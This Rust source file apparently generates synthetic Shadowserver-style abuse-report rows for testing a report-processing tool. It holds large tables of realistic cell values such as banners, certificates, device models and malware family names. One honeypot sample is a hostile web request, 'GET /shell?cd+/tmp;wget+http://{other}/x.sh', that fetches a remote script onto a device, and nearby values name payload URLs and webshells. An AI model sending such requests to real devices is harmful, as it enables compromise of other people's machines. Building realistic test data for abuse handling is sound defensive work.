//! What stands in the cells: believable values per column, the same each day for the same problem.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use abusebox::clock::Day;

use super::kinds::Kind;
use super::world::{Finding, Rng, World};

/// One row to be written.
#[derive(Debug)]
pub(crate) struct Row<'a> {
    /// Of the day; UTC.
    pub(crate) second: u32,
    world: &'a World,
    finding: &'a Finding,
    kind: &'static Kind,
    day: Day,
    device: &'static Device,
    infection: &'static str,
    city: &'static [&'static str; 3],
    /// Somebody outside the networks: attacker, victim or sinkhole.
    peer: IpAddr,
    /// Another customer's address.
    other: IpAddr,
}

impl<'a> Row<'a> {
    pub(crate) fn new(world: &'a World, finding: &'a Finding, day: Day, second: u32) -> Self {
        let mut rng = Rng::new(world.seed, &["row", &finding.number.to_string()]);
        let tail = rng.below(250) as u8 + 1;
        let peer = match finding.address {
            IpAddr::V4(_) => IpAddr::V4(Ipv4Addr::new(198, 51, 100, tail)),
            IpAddr::V6(_) => IpAddr::V6(Ipv6Addr::new(0x3fff, 0x51, 0, 0, 0, 0, 0, tail.into())),
        };
        let other = world.neighbour(finding.address, &mut rng).unwrap_or(peer);
        Self {
            second,
            world,
            finding,
            kind: Kind::find(&finding.report).unwrap_or(&OTHER_KIND),
            day,
            device: rng.pick(DEVICES).unwrap_or(&DEVICES[0]),
            infection: rng.pick(INFECTIONS).copied().unwrap_or_default(),
            city: rng.pick(CITIES).unwrap_or(&CITIES[0]),
            // One in four infected machines talks to a neighbour: a row that names two customers.
            peer: if rng.below(4) == 0 { other } else { peer },
            other,
        }
    }

    /// Whether the row is written without its empty last cells.
    pub(crate) fn is_short(&self) -> bool {
        SHORT_TYPES.contains(&self.kind.name) && self.finding.number.is_multiple_of(3)
    }

    /// The bytes of one cell, before quoting.
    pub(crate) fn value(&self, column: &str) -> Vec<u8> {
        self.own(column).map_or_else(|| self.tabled(column), String::into_bytes)
    }

    /// Columns that depend on who and where; the rest is in the table.
    fn own(&self, column: &str) -> Option<String> {
        let mut rng = self.rng(column);
        let sides = ["src_", "dst_", "http_referer_"];
        let (side, rest) = sides
            .iter()
            .find_map(|side| column.strip_prefix(side).map(|rest| (*side, rest)))
            .unwrap_or(("", column));
        let mine = side == self.side() || side.is_empty();
        let text = match (rest, mine) {
            ("timestamp", _) => self.time(),
            ("severity", _) => self.severity(&mut rng).to_owned(),
            ("ip", true) if self.kind.name == "blocklist" && self.finding.number.is_multiple_of(5) => {
                format!("{}/{}", self.finding.address, if self.finding.address.is_ipv4() { 32 } else { 128 })
            }
            ("ip", true) => self.address(),
            ("ip", false) => self.peer.to_string(),
            ("port", true) => self.port(&mut rng),
            ("port", false) => rng.pick(&[80, 443, 22, 23, 8080]).map_or(80, |port| *port).to_string(),
            ("asn", true) => "64500".to_owned(),
            ("asn", false) => rng.pick(&["64496", "65551", "0"])?.to_string(),
            ("geo", true) => self.city[0].to_owned(),
            ("region", true) => self.city[1].to_owned(),
            ("city", true) => self.city[2].to_owned(),
            ("geo", false) => rng.pick(&["US", "NL", "ZZ", ""])?.to_string(),
            ("region" | "city", false) => String::new(),
            ("naics", _) => rng.pick(&["517311", "518210", "0", ""])?.to_string(),
            ("sector", _) => rng.pick(SECTORS)?.to_string(),
            ("hostname", true) => self.hostname(&mut rng),
            ("hostname", false) => rng.pick(&["", "", "sinkhole.example.org", "-"])?.to_string(),
            ("protocol", _) => self.kind.protocol.to_owned(),
            ("tag", _) if self.kind.tag.is_empty() => self.infection.to_owned(),
            ("tag", _) => match rng.below(12) {
                0 => format!("{};iot", self.kind.tag),
                1 => format!("{},vpn", self.kind.tag),
                _ => self.kind.tag.to_owned(),
            },
            ("infection" | "family", _) => self.infection.to_owned(),
            ("device_vendor", _) => self.device.vendor.to_owned(),
            ("device_type", _) => self.device.kind.to_owned(),
            ("device_model", _) => self.device.model.to_owned(),
            ("device_version", _) => self.device.version.to_owned(),
            ("device_sector", _) => self.device.sector.to_owned(),
            _ => return None,
        };
        Some(text)
    }

    fn tabled(&self, column: &str) -> Vec<u8> {
        let mut rng = self.rng(column);
        let exact = format!("{}.{column}", self.kind.name);
        let matches = |word: &str| match word.strip_suffix('*') {
            Some(start) => column.starts_with(start),
            None => word == column || word == exact,
        };
        let found = VALUES.iter().find(|(names, _)| names.split_ascii_whitespace().any(matches));
        let choice = found.and_then(|(_, choices)| rng.pick(choices)).copied().unwrap_or_default();
        self.fill(choice, &mut rng)
    }

    /// Puts values in the place of `{word}` and `{word:number}`.
    fn fill(&self, template: &str, rng: &mut Rng) -> Vec<u8> {
        let mut text = Vec::new();
        let mut rest = template;
        while let Some((before, after)) = rest.split_once('{') {
            let Some((word, next)) = after.split_once('}') else { break };
            text.extend(before.bytes());
            let (word, number) = word.split_once(':').unwrap_or((word, "0"));
            let number: u64 = number.parse().unwrap_or_default();
            match word {
                "n" => text.extend(rng.below(number).to_string().bytes()),
                "hex" => text.extend(hex(rng, number, "").to_lowercase().bytes()),
                "print" => text.extend(hex(rng, number, ":").bytes()),
                "mac" => text.extend(hex(rng, 6, ":").to_lowercase().bytes()),
                "ip" => text.extend(self.finding.address.to_string().bytes()),
                "other" => text.extend(self.other.to_string().bytes()),
                "peer" => text.extend(self.peer.to_string().bytes()),
                "name" => text.extend(self.owner_domain().bytes()),
                "model" => text.extend(self.device.model.bytes()),
                "vendor" => text.extend(self.device.vendor.bytes()),
                "time" => text.extend(self.time().bytes()),
                "day" => text.extend(self.day.plus(-(rng.below(number) as i32)).to_string().bytes()),
                "later" => text.extend(self.day.plus(rng.below(number) as i32).to_string().bytes()),
                // A byte that is no UTF-8, as old devices send it, and one that no text should hold.
                "latin1" => text.push(0xfc),
                "nul" => text.push(0),
                _ => {}
            }
            rest = next;
        }
        text.extend(rest.bytes());
        text
    }

    fn rng(&self, column: &str) -> Rng {
        Rng::new(self.world.seed, &["cell", &self.finding.number.to_string(), column])
    }

    /// Beginning of the names of the columns that are about the customer.
    fn side(&self) -> &'static str {
        match self.kind.name {
            "event4_honeypot_ddos_target" => "dst_",
            "event4_sinkhole_http_referer" => "http_referer_",
            _ if self.kind.is_event() => "src_",
            _ => "",
        }
    }

    fn time(&self) -> String {
        let (hour, minute, second) = (self.second / 3600, self.second / 60 % 60, self.second % 60);
        format!("{} {hour:02}:{minute:02}:{second:02}", self.day)
    }

    /// The type's own level; one row in eight of another, as Shadowserver does for some types.
    fn severity(&self, rng: &mut Rng) -> &'static str {
        match rng.below(8) {
            0 => rng.pick(&["low", "medium", "high", "critical"]).copied().unwrap_or(self.kind.severity),
            1 if self.finding.number.is_multiple_of(9) => "",
            _ => self.kind.severity,
        }
    }

    /// IPv6 comes compressed or in full.
    fn address(&self) -> String {
        match self.finding.address {
            IpAddr::V6(address) if self.finding.number.is_multiple_of(3) => {
                address.segments().map(|group| format!("{group:04x}")).join(":")
            }
            address => address.to_string(),
        }
    }

    fn port(&self, rng: &mut Rng) -> String {
        match rng.pick(self.kind.ports) {
            Some(port) => port.to_string(),
            // Victims of reflection often come without one.
            None if self.kind.name == "event4_honeypot_ddos_amp" => String::new(),
            None => (1024 + rng.below(64_512)).to_string(),
        }
    }

    fn hostname(&self, rng: &mut Rng) -> String {
        let dashed = self.finding.address.to_string().replace(['.', ':'], "-");
        match rng.below(10) {
            0..=2 => String::new(),
            3 => "-".to_owned(),
            4 => format!("MAIL.{}", self.owner_domain().to_uppercase()),
            5 => self.finding.address.to_string(),
            6 => format!("gw.{}", self.owner_domain()),
            _ => format!("{dashed}.dyn.example.net"),
        }
    }

    /// Mail domain of whoever owns the address.
    fn owner_domain(&self) -> String {
        let owners = self.world.owners(self.finding.address);
        let domain = owners.first().and_then(|owner| owner.email.split(['@', ';', ',']).nth(1));
        domain.unwrap_or("example.net").to_owned()
    }
}

/// A cell as Shadowserver writes it: text in quotes, numbers bare, nothing at all when empty.
pub(crate) fn cell(value: &[u8], always_quoted: bool) -> Vec<u8> {
    let digits = value.strip_prefix(b"-").unwrap_or(value);
    let number = digits.first().is_some_and(u8::is_ascii_digit)
        && digits.last().is_some_and(u8::is_ascii_digit)
        && digits.iter().all(|byte| byte.is_ascii_digit() || *byte == b'.')
        && digits.iter().filter(|&&byte| byte == b'.').count() < 2;
    if (value.is_empty() || number) && !always_quoted {
        return value.to_vec();
    }
    let mut cell = vec![b'"'];
    for &byte in value {
        cell.extend(if byte == b'"' { &b"\"\""[..] } else { std::slice::from_ref(&byte) });
    }
    cell.push(b'"');
    cell
}

fn hex(rng: &mut Rng, bytes: u64, between: &str) -> String {
    let bytes: Vec<String> = (0..bytes).map(|_| format!("{:02X}", rng.below(256))).collect();
    bytes.join(between)
}

/// A kind of machine, as it is recognised from outside.
#[derive(Debug)]
struct Device {
    vendor: &'static str,
    kind: &'static str,
    model: &'static str,
    version: &'static str,
    sector: &'static str,
}

const fn device(
    vendor: &'static str,
    kind: &'static str,
    model: &'static str,
    version: &'static str,
    sector: &'static str,
) -> Device {
    Device { vendor, kind, model, version, sector }
}

const DEVICES: &[Device] = &[
    device("", "", "", "", ""),
    device("MikroTik", "router", "RouterOS", "6.49.2", "consumer"),
    device("AVM", "router", "FRITZ!Box 7590", "", "consumer"),
    device("Fortinet", "firewall", "FortiGate 60E", "7.0.12", "enterprise"),
    device("Hikvision", "ip-camera", "DS-2CD2042WD-I", "V5.4.5", "consumer"),
    device("Synology", "nas", "DiskStation DS218+", "DSM 6.2", "consumer"),
    device("TP-Link", "router", "Archer C7", "", "consumer"),
    device("Zyxel", "firewall", "USG FLEX 100", "5.30", "enterprise"),
    device("Ubiquiti", "wireless", "NanoStation M5", "v6.1.7", "service provider"),
    device("HP", "printer", "LaserJet M402dn", "", "office"),
    device("Siemens", "plc", "SIMATIC S7-1200", "4.2", "industrial"),
    device("Dahua", "dvr", "DHI-XVR5108", "4.000", "consumer"),
];

const INFECTIONS: &[&str] =
    &["mirai", "andromeda", "necurs", "qakbot", "conficker", "gamarue", "vpnfilter", "flubot", "badbox2"];

const CITIES: &[[&str; 3]] = &[
    ["AT", "WIEN", "VIENNA"],
    ["AT", "STEIERMARK", "GRAZ"],
    ["AT", "TIROL", "INNSBRUCK"],
    ["DE", "BAYERN", "M\u{dc}NCHEN"],
    ["CZ", "JIHOMORAVSKY KRAJ", "BRNO"],
];

const SECTORS: &[&str] =
    &["", "", "", "Communications, Service Provider, and Hosting Service", "Education", "Health Care"];

/// Seen with rows shorter than their header.
const SHORT_TYPES: [&str; 3] = ["scan_rdp", "event4_microsoft_sinkhole", "scan_elasticsearch"];

/// For a problem of a type the table of kinds lacks.
static OTHER_KIND: Kind = Kind::unknown();

/// Column names (or `type.column`, or the beginning of a name and `*`) and what may stand there. First match counts,
/// so the exact ones come first. A line break in a banner is written `|`, as Shadowserver does.
#[rustfmt::skip]
const VALUES: &[(&str, &[&str])] = &[
    // What a service says when it is called.
    ("scan_ftp.banner", &["220 FTP Server ready.|", "220 ProFTPD 1.3.5 Server (\"{name}\") [{ip}]|", "220---------- Welcome to Pure-FTPd ----------||220-Local time is now 10:41|", "220 (vsFTPd 2.3.4)|", "220 {other} FTP server ready|", "220 Gr{latin1}n FTP|"]),
    ("scan_smtp_vulnerable.banner", &["220 mail.{name} ESMTP Exim 4.92 Tue|", "220 {name} ESMTP Postfix (relay for {other})|"]),
    ("scan_imap.banner", &["* OK [CAPABILITY IMAP4rev1 STARTTLS] Dovecot ready.|", "* OK {name} Cyrus IMAP v2.4.17 server ready|"]),
    ("scan_vnc.banner", &["RFB 003.008|", "RFB 003.889|"]),
    ("scan_ssh.banner", &["SSH-2.0-OpenSSH_7.4|", "SSH-2.0-dropbear_2019.78|"]),
    ("scan_telnet.banner", &["|MikroTik v6.49.2|Login:", "{name} login: ", "||User Access Verification||Username: ", "BusyBox v1.19.4{nul}|(none) login:", "Zugang f{latin1}r {other} gesperrt|login:", "\u{3a9}mega \u{2014} router\u{ae}|login:"]),
    ("scan_exchange.version", &["15.1.2507.6", "15.2.986.5", "15.0.1497.2"]),
    ("scan_snmp.version", &["2", "1"]),
    ("scan_mongodb.version", &["3.6.8", "4.0.3", "2.4.9"]),
    ("scan_redis.version", &["5.0.7", "3.2.12"]),
    ("scan_elasticsearch.version", &["7.9.1", "1.4.2"]),
    ("scan_docker.version", &["20.10.7", "18.09.1"]),
    ("scan_memcached.version", &["1.4.15", "1.5.6"]),
    ("scan_mssql.version", &["10.50.2500.0", "14.0.1000.169"]),
    ("scan_ntp.version", &["4", "ntpd 4.2.8p10@1.3728-o (1)"]),
    ("scan_adb.name", &["aosp_arm", "rk3229_box"]),
    ("event4_honeypot_ddos_amp.request", &["dns:ANY .", "ntp:monlist", "cldap"]),
    ("event4_honeypot_http_scan.http_url event4_honeypot_http_scan.pattern", &["/GponForm/diag_Form?images/", "GET /shell?cd+/tmp;wget+http://{other}/x.sh HTTP/1.1", "/.env"]),
    ("scan_sip.contact sip_from sip_to sip_via", &["<sip:100@{ip}>;tag={hex:4}", "\"100\" <sip:100@{other}:5060>", ""]),
    ("compromised_iot.status compromised_website.status special.status", &["compromised", "vulnerable"]),
    ("compromised_iot.detail", &["backdoor account present", "implant \"v2\", port 2323"]),
    ("compromised_website.detail", &["webshell; see {name}/up.php", "injected script, loaded from http://{other}/a.js", ""]),
    ("compromised_website.category", &["webshell", "skimmer", "redirect"]),
    ("compromised_account.status", &["leaked", ""]),
    ("compromised_account.service", &["webmail", "https://login.{name}/", "vpn"]),
    ("scan_ssdp.location", &["http://{ip}:49152/rootDesc.xml", "http://192.168.1.1:5000/x.xml"]),
    ("server_type scan_http.server scan_http_vulnerable.server scan_cwmp.server", &["nginx/1.14.0", "lighttpd", "Apache/2.4.6 (CentOS) OpenSSL/1.0.2k-fips", "mini_httpd/1.19 19dec2003", "GoAhead-Webs", "RomPager/4.07 UPnP/1.0", ""]),
    ("scan_ssdp.server", &["Linux/3.10 UPnP/1.0 MiniUPnPd/1.8", "Ubuntu/7.10 UPnP/1.0 miniupnpd/1.0"]),
    ("scan_sip.server user_agent", &["FPBX-2.11.0(11.7.0)", "{vendor} {model}", "Asterisk PBX 13.14"]),
    // Web servers.
    ("http_code", &["200", "200", "401", "302", "404"]),
    ("http_reason", &["OK", "Unauthorized", "Found"]),
    ("http", &["HTTP/1.1", "HTTP/1.0"]),
    ("content_type", &["text/html", "text/html; charset=utf-8", "application/json", ""]),
    ("www_authenticate", &["", "Basic realm=\"{model}\"", "Digest realm=\"{name}\", nonce=\"{hex:16}\", qop=\"auth\"", "Basic realm=\\\"OpenWebif\\\""]),
    ("set_cookie", &["", "SESSIONID={hex:8}; path=/; HttpOnly", "lang=de, theme=\"dark\""]),
    ("content_length message_length packet_length", &["{n:60000}", ""]),
    ("transfer_encoding", &["", "chunked"]),
    ("http_date date", &["Mon, 10 Jan 2022 00:12:41 GMT", "{time}", ""]),
    ("connection http_connection", &["close", "keep-alive", ""]),
    ("http_response_type", &["HTTP/1.1"]),
    ("http_agent", &["Mozilla/5.0 (Windows NT 6.1; WOW64)", "curl/7.29.0", "Hello, world", ""]),
    ("http_host", &["bad.example.org", "{name}", "{other}:8080", ""]),
    ("http_url url", &["/index.php?x=1", "http://{name}/wp-content/up.php", "GET /a/b%2fc HTTP/1.1", "/"]),
    ("http_referer", &["http://{name}/landing", ""]),
    ("http_request_method method http_method", &["GET", "POST", ""]),
    ("http_path", &["/", "/login"]),
    ("http_usessl", &["0", "1"]),
    ("url_scheme", &["http", "https"]),
    ("request_raw", &["GET / HTTP/1.0rnAccept: */*rnHost: {other}rnrn", "POST /cgi-bin/luci HTTP/1.1rnHost: {peer}rn"]),
    ("body_raw http_postdata", &["", "user=admin&pass=\"secret\"&next=%2f"]),
    ("redirect_target cc_url leak_site_url payload_url source_url", &["http://bad.example.org/x.sh", "https://cdn.example.com/a?b=\"c\"", ""]),
    ("servername", &["EX01", "MAIL"]),
    // Certificates.
    ("subject_common_name", &["*.{name}", "mail.{name}", "FGT60E4Q16{n:99999}", "localhost", "{other}", "{vendor} default"]),
    ("issuer_common_name", &["R3", "support", "localhost", "{vendor} CA"]),
    ("subject_organization_name", &["", "{vendor}", "Kunde GmbH & Co. KG", "M\u{fc}ller \"Sons\", Ltd."]),
    ("issuer_organization_name", &["Let's Encrypt", "{vendor}", ""]),
    ("subject_country issuer_country", &["AT", "US", "--", ""]),
    ("subject_state_or_province_name subject_locality_name issuer_state_or_province_name issuer_locality_name", &["", "", "Tirol", "California"]),
    ("subject_organization_unit_name issuer_organization_unit_name", &["", "Certificate Authority", "IT"]),
    ("subject_email_address issuer_email_address", &["", "", "support@vendor.example", "hostmaster@{name}"]),
    ("cert_issue_date", &["2019-03-02 09:56:32", "{day:300} 00:00:00"]),
    ("cert_expiration_date", &["2021-03-02 09:56:32", "2038-01-19 03:14:07", "{later:400} 23:59:59"]),
    ("cert_serial_number", &["{hex:8}", "00", "1A2B3C"]),
    ("cert_length", &["2048", "1024", "4096"]),
    ("signature_algorithm", &["sha256WithRSAEncryption", "sha1WithRSAEncryption"]),
    ("key_algorithm", &["rsaEncryption", "id-ecPublicKey"]),
    ("cipher_suite tlsv13_cipher ssl_cipher freak_cipher_suite", &["TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256", "TLS_RSA_WITH_AES_128_CBC_SHA", ""]),
    ("handshake", &["TLSv1.2", "TLSv1.0", "SSLv3"]),
    ("ssl_version", &["2", "0"]),
    ("sha1_fingerprint", &["{print:20}"]),
    ("sha256_fingerprint page_sha256fp", &["{print:32}"]),
    ("sha512_fingerprint", &["{print:64}"]),
    ("md5_fingerprint", &["{print:16}"]),
    ("jarm", &["{hex:31}", ""]),
    ("validation_level", &["DV", "unknown", "OV"]),
    ("cert_valid self_signed cert_expired browser_trusted ssl_poodle sslv3_supported freak_vulnerable tlsv13_support", &["Y", "N", "N", ""]),
    ("browser_error", &["x509: unknown error", "x509: certificate signed by unknown authority", ""]),
    ("raw_cert", &["", "-----BEGIN CERTIFICATE-----|MII{hex:60}|-----END CERTIFICATE-----"]),
    ("auth_tls_response auth_ssl_response", &["234 AUTH TLS OK.|", "502 not implemented|", ""]),
    ("ssl_servername", &["{name}", ""]),
    // Where it was seen, by whom.
    ("hostname_source", &["ptr", "", "ssl"]),
    ("public_source", &["", "", "CERT.example", "Alliance"]),
    ("source", &["Alien Vault", "blocklist.example", "urlhaus"]),
    ("reason", &["scanner", "spam; repeated", "brute-force, ssh"]),
    ("application", &["http", "mirai", "https", ""]),
    ("event_id", &["{hex:8}", ""]),
    ("count number_of_connections packets", &["{n:900}", "1"]),
    ("start_time", &["{day:1}T00:00:00.521730Z"]),
    ("end_time", &["{day:1}T23:11:09.104411Z", "{time}"]),
    ("first_seen_time last_seen_time detected_since date_published", &["{day:9} 04:05:06", "{day:90}"]),
    ("duration", &["{n:600}", "30.5", ""]),
    ("dst_network network", &["198.51.100.0/24"]),
    ("dst_netmask", &["24", "32"]),
    ("attack", &["udp-plain", "syn", "atk_vse"]),
    ("domain", &["c2.example.org", "{other}", ""]),
    ("domain_source", &["honeypot", "dns"]),
    ("attack_src_ip", &["{peer}", ""]),
    ("ip_header_ttl", &["64", "255"]),
    ("ip_header_*", &["0", "1", "false", ""]),
    ("routedspoof nat", &["received", "rewritten", "0", "1"]),
    ("query", &["bad.example.org", "{hex:6}.example.org"]),
    ("query_type", &["A", "AAAA", "TXT"]),
    ("bytes avg_pps max_pps", &["{n:2000000}", "17.25"]),
    // Break-in attempts; the names and words are the attacker's.
    ("service", &["ssh", "telnet", "smtp", "ms-sql"]),
    ("client_version", &["b'SSH-2.0-Go'", "b'SSH-2.0-libssh2_1.9.0'", ""]),
    ("username account usernames", &["root", "admin", "user{n:99}", "", "o'hara"]),
    ("password", &["123456", "P@ssw0rd,1", "qwerty\"x", "", "{hex:4}"]),
    ("vulnerability_id", &["CVE-2018-10561", "CVE-2024-3400", ""]),
    ("vulnerability_enum", &["CVE", "EDB", ""]),
    ("vulnerability_score", &["9.8", "7.5", ""]),
    ("vulnerability_severity", &["CRITICAL", "HIGH", ""]),
    ("vulnerability_class vulnerability_version", &["CVSS", "3.0", ""]),
    ("target_vendor", &["{vendor}", "Dasan"]),
    ("target_product", &["{model}", "GPON router"]),
    ("target_class", &["router", "firewall", ""]),
    ("threat_*", &["", "MITRE ATT&CK;MITRE ATT&CK", "TA0001;TA0007", "T1190;T1595"]),
    ("session_tags", &["http-scan;recon", ""]),
    ("md5 payload_md5 file_md5", &["{hex:16}", ""]),
    ("sha1 git_sha1", &["{hex:20}"]),
    ("sha256 file_sha256 malpubkey_sha256 server_host_key_sha256", &["{hex:32}", ""]),
    ("machine_name workstation_name reported_hostname server_name", &["DESKTOP-{hex:3}", "SRV01", "BUERO-PC"]),
    ("email", &["office@{name}", "Max.Muster@{name}"]),
    ("entity_name website", &["Example Works", "www.{name}"]),
    ("ransomware", &["lockbit3", "akira"]),
    // Amplifiers and their details.
    ("response_size", &["{n:4000}", "131", "48"]),
    ("amplification min_amplification", &["1.94", "4.6190", "30.7", "556"]),
    ("dns_version", &["9.11.4-P2-RedHat", "dnsmasq-2.80", ""]),
    ("sysdesc", &["RouterOS CCR1009-8G-1S-1S+", "Linux {name} 3.18.20 #1 SMP Mon Jul 9 14:11:21 CST 2018 armv7l", "Hardware: \"Intel64\" - Software: Windows 6.3", "HP ETHERNET MULTI-ENVIRONMENT,ROM none,JETDIRECT,JD153"]),
    ("sysname", &["gw-{name}", "MikroTik", "core, \"rack 2\""]),
    ("community", &["public", "private"]),
    ("mac mac_address", &["{mac}"]),
    ("vendor vendor_id", &["{vendor}", "8072"]),
    ("uptime systime time", &["{n:99999999}", "12 days, 3:04:05"]),
    ("programs", &["100000 2 111/udp; 100000 2 111/tcp; 100005 3 2049/udp;", "100000 4 111/udp;"]),
    ("exports", &["", "/srv/backup {other}/32;", "/home *;"]),
    ("mountd_port tcp_port http_port server_port", &["20048", "1433", ""]),
    ("mapped_address xor_mapped_address", &["{ip}", "{peer}"]),
    ("services", &["_http._tcp.local.; _ssh._tcp.local.;", "_spotify-connect._tcp.local.;"]),
    ("workstation_ipv4 mdns_ipv4 http_ipv4 spotify_ipv4", &["192.168.178.20 10.0.0.4", "{other}", ""]),
    ("workstation_ipv6 mdns_ipv6", &["fe80::1", ""]),
    ("workgroup", &["WORKGROUP", "KANZLEI"]),
    ("header cache_control", &["HTTP/1.1 200 OK", "max-age=1800"]),
    ("search_target unique_service_name nt", &["upnp:rootdevice", "uuid:{hex:16}::upnp:rootdevice"]),
    ("initiator_spi responder_spi transaction_id", &["{hex:8}"]),
    ("sip", &["SIP/2.0"]),
    ("sip_code", &["200", "404"]),
    ("sip_reason", &["OK", "Not Found"]),
    ("call_id", &["{hex:8}@{ip}"]),
    ("allow", &["INVITE, ACK, CANCEL, OPTIONS, BYE"]),
    // Databases, file servers and the like.
    ("visible_databases", &["admin | local | kunden", "READ__ME_TO_RECOVER | local", "none visible"]),
    ("cluster_name", &["elasticsearch", "logs-{name}"]),
    ("tagline", &["You Know, for Search"]),
    ("instance_name", &["MSSQLSERVER", "SQLEXPRESS"]),
    ("named_pipe", &["\\\\SRV01\\pipe\\sql\\query", ""]),
    ("naming_contexts default_naming_context root_domain_naming_context", &["DC=firma,DC=local | CN=Configuration,DC=firma,DC=local", "DC=schule,DC=example"]),
    ("dns_host_name ldap_service_name", &["dc01.firma.local", "{name}"]),
    ("module", &["backup;data;www", "NetBackup"]),
    ("motd", &["", "Welcome|to {name}|"]),
    ("has_password is_synchronized anonymous_access nulluser", &["Y", "N", "True", "FALSE", "yes", "no"]),
    ("code hex_code", &["0", "00", "Connection Accepted"]),
    ("raw_response", &["{hex:40}", ""]),
    ("device_id", &["{vendor} {model}", ""]),
    ("product modelfull modelshort radioname", &["{model}", "{vendor} {model}"]),
    ("essid printer_wifi_ssid", &["", "Zu Hause \u{1f3e0}", "WLAN-{hex:2}"]),
    ("firmware firmwarerev", &["XM.ar7240.v6.1.7", "2.60"]),
    ("printer_name printer_info printer_make_and_model", &["{vendor} {model}", "Empfang 1. Stock"]),
    ("printer_uris", &["ipp://{ip}:631/ipp/print", "ipp://{other}:631/ipp/print"]),
    ("ipmi_version", &["2.0", "1.5"]),
    ("none_auth md2_auth md5_auth passkey_auth oem_auth permessage_auth userlevel_auth anon_login", &["yes", "no"]),
    ("defaultkg", &["default", "not default"]),
    ("ok", &["1", "true"]),
    ("os architecture arch system", &["Linux 4.15.0-20-generic x86_64", "linux", "amd64", "64"]),
    ("build_time build_date build_timestamp", &["2018-05-09T22:18:36.000000000+00:00", "2019-06-28"]),
    ("build_hash git_commit gitversion build_id run_id", &["{hex:20}"]),
    ("smb_version_string", &["SMB 1", "SMB 3.0"]),
    ("smb_*", &["1", "3", "0"]),
    ("available_ciphers available_mac available_kex", &["aes128-ctr, aes192-ctr, aes256-ctr, 3des-cbc", "hmac-sha1, hmac-md5", "diffie-hellman-group1-sha1"]),
    ("serverid_raw", &["SSH-2.0-OpenSSH_7.4", "SSH-2.0-dropbear_2019.78", "SSH-2.0-ROSSSH"]),
    ("serverid_software", &["OpenSSH_7.4", "dropbear_2019.78", "ROSSSH"]),
    ("serverid_version", &["2.0"]),
    ("userauth_methods", &["publickey, password", "password"]),
    ("hassh", &["{hex:16}"]),
    ("algorithm", &["ssh-rsa", "ecdsa-sha2-nistp256"]),
    ("server_host_key rsa_modulus server_signature_raw server_cookie", &["{hex:270}", "{hex:64}"]),
    ("rdp_protocol", &["RDP", "SSL", "NLA"]),
    ("bgp_identifier", &["{ip}", "10.0.0.1"]),
    ("sender_asn", &["64500", "65001"]),
    ("clock reftime", &["0xE5D1C2B3.12345678", "{hex:8}"]),
    ("stratum peer precision poll leap", &["{n:16}", "-20"]),
    ("message_type message2_type", &["OPEN", "NOTIFICATION"]),
    ("message_type_int message2_type_int bgp_version major_error_code_int minor_error_code_int", &["1", "3", "4", "6"]),
    ("major_error_code", &["Cease"]),
    ("minor_error_code", &["Connection Rejected", "Connection Collision Resolution"]),
    ("hold_time", &["180", "90"]),
    ("next_payload* exchange_type flags domain_of_interpretation protocol_id spi_size", &["0", "1", "11"]),
    ("notify_message_type message_id", &["14", "NO-PROPOSAL-CHOSEN", "{hex:4}"]),
    ("rootdelay rootdispersion offset frequency jitter noise stability phase", &["0.000", "-12.044", "{n:90}.125"]),
    ("refid", &["{peer}", "LOCL", ".GPS."]),
    ("processor", &["x86_64", "unknown"]),
    ("state tc tai mintc", &["4", "0", ""]),
    ("startup_error_message protocol_error_message", &["no pg_hba.conf entry for host \"{peer}\", user \"x\", SSL off", "unsupported frontend protocol 65363.19778: server supports 2.0 to 3.0"]),
    ("startup_error_severity* protocol_error_severity*", &["FATAL"]),
    ("startup_error_code protocol_error_code", &["28000", "0A000"]),
    ("client_ssl experimental is_global_catalog_ready", &["Y", "N", "FALSE", "true"]),
    ("supported_*", &["MaxPoolThreads;MaxPageSize", "GSSAPI | DIGEST-MD5", "3;2", ""]),
    ("domain_functionality forest_functionality domain_controller_functionality", &["7", "3"]),
    ("ds_service_name schema_naming_context configuration_naming_context subschema_subentry", &["CN=NTDS Settings,CN=DC01,CN=Servers,DC=firma,DC=local"]),
    ("process_id pid connected_clients curr_connections total_connections", &["{n:30000}", "1"]),
    ("bits pointer_size", &["64", "32"]),
    ("spotify_name http_name mdns_name http_target", &["Kueche.local.", "K\u{fc}che", "{vendor} {model}.local."]),
    ("http_info workstation_info", &["\"\"", "\"vendor={vendor}\" \"model={model}\"", "path=/"]),
    ("error errormessage", &["", "File not found", "Access violation, request from {peer}"]),
    ("errorcode opcode", &["1", "5"]),
    ("xor_mapped_port mapped_port attack_src_port", &["{n:65535}"]),
    ("model features", &["{model}", "cmd,shell_v2,stat_v2"]),
    ("productname manufacturername", &["{model}", "{vendor}"]),
    ("selected_cipher", &["aes128-ctr"]),
    ("rsa_length", &["2048", "1024"]),
    ("fingerprint", &["{hex:20}"]),
    ("version", &["1.0", "2.4.6", "unknown", ""]),
    ("detail", &["", "see advisory", "git remote: https://git.{name}/shop.git"]),
];
